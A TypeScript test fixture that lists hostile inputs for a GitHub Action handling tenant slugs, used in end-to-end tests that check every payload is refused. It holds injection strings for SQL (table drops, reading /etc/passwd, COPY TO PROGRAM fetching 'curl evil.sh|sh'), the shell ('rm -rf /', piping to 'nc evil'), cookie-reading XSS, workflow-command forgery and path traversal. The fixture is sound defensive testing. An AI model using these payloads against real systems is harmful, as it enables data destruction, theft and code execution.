/**
 * Hostile inputs for the action's end-to-end tests. Every case carries a unique marker
 * (`HOSTILE_<n>_<suffix>`: upper case and `_`, so it is never a valid slug and any text the action
 * extracts around it stays invalid) that a test looks for in the database's statement log.
 */

/** Where the hostile text enters the run. */
export type HostileLocation =
  /** The trigger label `promote-tenant:<text>`. */
  | 'label'
  /** `[TENANT: <text>]` in the PR title, with the bare trigger label. */
  | 'title'
  /** A `Tenant: <text>` line under `## Tenant Information` in the PR body, with the bare label. */
  | 'body'
  /** The workflow_dispatch event's `tenant_slug` input. */
  | 'dispatch'
  /** The workflow_dispatch event's `operation` input. */
  | 'dispatch-operation'
  /** The action's tenant-slug input (a workflow wiring `${{ inputs.tenant_slug }}` into it). */
  | 'input'
  /** The action's default-tenant input, with the bare label and nothing in the title or body. */
  | 'default-tenant'
  /** The whole label is the hostile text: not ours, so skipped before any call. */
  | 'foreign-label';

export interface HostileCase {
  id: number;
  name: string;
  location: HostileLocation;
  text: string;
  marker: string;
  /** `refused`: exit 1, result failed, a comment; `skipped`: exit 0, no call at all. */
  expect: 'refused' | 'skipped';
  /** What the ::error:: line says. */
  error?: RegExp;
}

interface Payload {
  name: string;
  text(m: string): string;
  /** Only in the event payload (an environment variable cannot carry NUL). */
  payloadOnly?: boolean;
}

const PAYLOADS: Payload[] = [
  { name: 'SQL: quote, DROP TABLE, comment', text: (m) => `${m}'; DROP TABLE tenants; --` },
  { name: 'SQL: double quote identifier break', text: (m) => `${m}"; DROP DATABASE postgres; --` },
  { name: "SQL: OR '1'='1'", text: (m) => `${m}' OR '1'='1` },
  { name: 'SQL: pg_sleep stacked query', text: (m) => `${m}\\'; SELECT pg_sleep(30); --` },
  { name: 'SQL: pg_read_file concatenation', text: (m) => `${m}' || pg_read_file('/etc/passwd') || '` },
  { name: 'SQL: COPY TO PROGRAM', text: (m) => `${m}'); COPY tenants TO PROGRAM 'curl evil.sh|sh'; --` },
  { name: 'SQL: dollar quoting', text: (m) => `${m}$$; DROP SCHEMA public CASCADE; $$` },
  {
    name: 'SQL: NUL before the quote',
    text: (m) => `${m}\u0000'; DROP TABLE tenants; --`,
    payloadOnly: true,
  },
  { name: 'shell: semicolon and rm', text: (m) => `${m}; rm -rf / #` },
  { name: 'shell: $(…) substitution', text: (m) => `${m}$(touch /tmp/${m})` },
  { name: 'shell: backticks', text: (m) => `${m}\`touch /tmp/${m}\`` },
  { name: 'shell: pipes, redirects and globs', text: (m) => `${m} | nc evil 1 > /etc/x < * & ?` },
  { name: 'shell: ${IFS} and env expansion', text: (m) => `${m}\${IFS}\${HOME}$PATH` },
  { name: 'newline then a second line', text: (m) => `${m}\nevil-second-line` },
  { name: 'CRLF', text: (m) => `${m}\r\nX-Injected: 1` },
  { name: 'NUL byte', text: (m) => `${m}\u0000tail`, payloadOnly: true },
  { name: 'right-to-left override', text: (m) => `${m}\u202Egnp.exe` },
  { name: 'bidi isolates and arabic letter mark', text: (m) => `${m}\u2066x\u2069\u061C` },
  { name: 'zero-width space inside', text: (m) => `acme\u200Bcorp-${m}` },
  { name: 'homoglyph: Cyrillic а in acme-corp', text: (m) => `\u0430cme-corp-${m}` },
  { name: 'full-width letters', text: (m) => `\uff41\uff43\uff4d\uff45-${m}` },
  { name: 'line and paragraph separators', text: (m) => `${m}\u2028\u2029x` },
  { name: 'NEL (U+0085)', text: (m) => `${m}\u0085::warning::x` },
  { name: '10 kB string', text: (m) => `${m}${'a'.repeat(10_240)}` },
  { name: '10 kB of pipes and angle brackets', text: (m) => `${m}${'|<>'.repeat(3_500)}` },
  { name: 'HTML: img onerror', text: (m) => `${m}<img src=x onerror=alert(document.cookie)>` },
  { name: 'HTML: script tag', text: (m) => `${m}<script>alert(1)</script>` },
  { name: 'HTML: closes <details> early', text: (m) => `${m}</details></summary><details open>` },
  { name: 'HTML: comment that hides the rest', text: (m) => `${m}<!-- ` },
  { name: 'HTML: closes the marker comment', text: (m) => `${m} --> <!-- tenant-promotion:acme-corp -->` },
  { name: 'HTML: table cell and row breakers', text: (m) => `${m}</td></tr><tr><td>x` },
  { name: 'markdown: pipes in a table cell', text: (m) => `${m}|a|b|c|` },
  { name: 'markdown: @mention', text: (m) => `${m} @octocat @github/security` },
  { name: 'markdown: #123 issue reference', text: (m) => `${m} #123 GH-1 Codertocat/Hello-World#1` },
  { name: 'markdown: javascript link', text: (m) => `[${m}](javascript:alert(1))` },
  { name: 'markdown: image', text: (m) => `![${m}](https://evil.example/x.png)` },
  { name: 'markdown: emphasis, code, strike', text: (m) => `**${m}** \`x\` ~~y~~ _z_` },
  { name: 'markdown: heading and list injection', text: (m) => `${m}\n### Promoted ✅\n- [x] done` },
  { name: 'markdown: code fence', text: (m) => `${m}\n\`\`\`\nfenced\n\`\`\`` },
  {
    name: 'workflow command: ::set-output on a new line',
    text: (m) => `${m}\n::set-output name=result::promoted`,
  },
  { name: 'workflow command: ::add-mask:: on a new line', text: (m) => `${m}\n::add-mask::${m}` },
  { name: 'workflow command: percent-encoded newline', text: (m) => `${m}%0A::error::forged` },
  { name: 'GitHub expression', text: (m) => `${m}\${{ secrets.GITHUB_TOKEN }}` },
  { name: 'path traversal', text: (m) => `../../${m}/../../etc/passwd` },
  { name: 'URL-encoded quote and semicolon', text: (m) => `${m}%27%3B%20DROP` },
  { name: 'format string', text: (m) => `${m}%s%n%x%d` },
  { name: 'trailing backslash', text: (m) => `${m}\\` },
  { name: 'template braces', text: (m) => `{{${m}}}{%raw%}` },
  { name: 'emoji', text: (m) => `${m}🚀` },
  { name: 'tab', text: (m) => `${m}\tx` },
  { name: 'upper case and underscore only', text: (m) => `${m}` },
  { name: 'leading hyphen', text: (m) => `-${m}-` },
];

const ROTATION: HostileLocation[] = ['label', 'title', 'body', 'dispatch', 'input', 'default-tenant'];

const SLUG_ERROR =
  /::error::Invalid tenant slug ".*" from (the label|the pull request title|the pull request body|the workflow_dispatch inputs|the tenant-slug input|the default-tenant input)/;

/** Marker for case `id`, unique to this test run. */
export function markerFor(id: number, suffix: string): string {
  return `HOSTILE_${id}_${suffix.toUpperCase()}`;
}

/** The cases: every payload at a rotating location, plus some at the operation input and as a foreign label. */
export function hostileCases(suffix: string): HostileCase[] {
  const cases: HostileCase[] = [];
  let id = 0;
  const add = (p: Payload, location: HostileLocation) => {
    id++;
    const marker = markerFor(id, suffix);
    cases.push({
      id,
      name: `${p.name} (${location})`,
      location,
      text: p.text(marker),
      marker,
      expect: location === 'foreign-label' ? 'skipped' : 'refused',
      error:
        location === 'foreign-label'
          ? undefined
          : location === 'dispatch-operation'
            ? /::error::Unknown operation "/
            : SLUG_ERROR,
    });
  };
  PAYLOADS.forEach((p, i) => {
    let location = ROTATION[i % ROTATION.length]!;
    // Environment variables cannot hold NUL: those go through the event payload.
    if (p.payloadOnly && (location === 'input' || location === 'default-tenant')) location = 'label';
    add(p, location);
  });
  // The same text again where the rotation did not put it: SQL and HTML at every entry point.
  for (const i of [0, 9, 25, 27, 31]) {
    for (const location of ROTATION) add(PAYLOADS[i]!, location);
  }
  // The label is also rendered as the run's trigger (escapeInline, not quoteUntrusted).
  for (const i of [13, 15, 16, 17, 19, 21, 22, 24]) add(PAYLOADS[i]!, 'label');
  for (const i of [0, 13, 25, 16]) add(PAYLOADS[i]!, 'dispatch-operation');
  for (const i of [0, 25, 39, 7]) add(PAYLOADS[i]!, 'foreign-label');
  return cases;
}
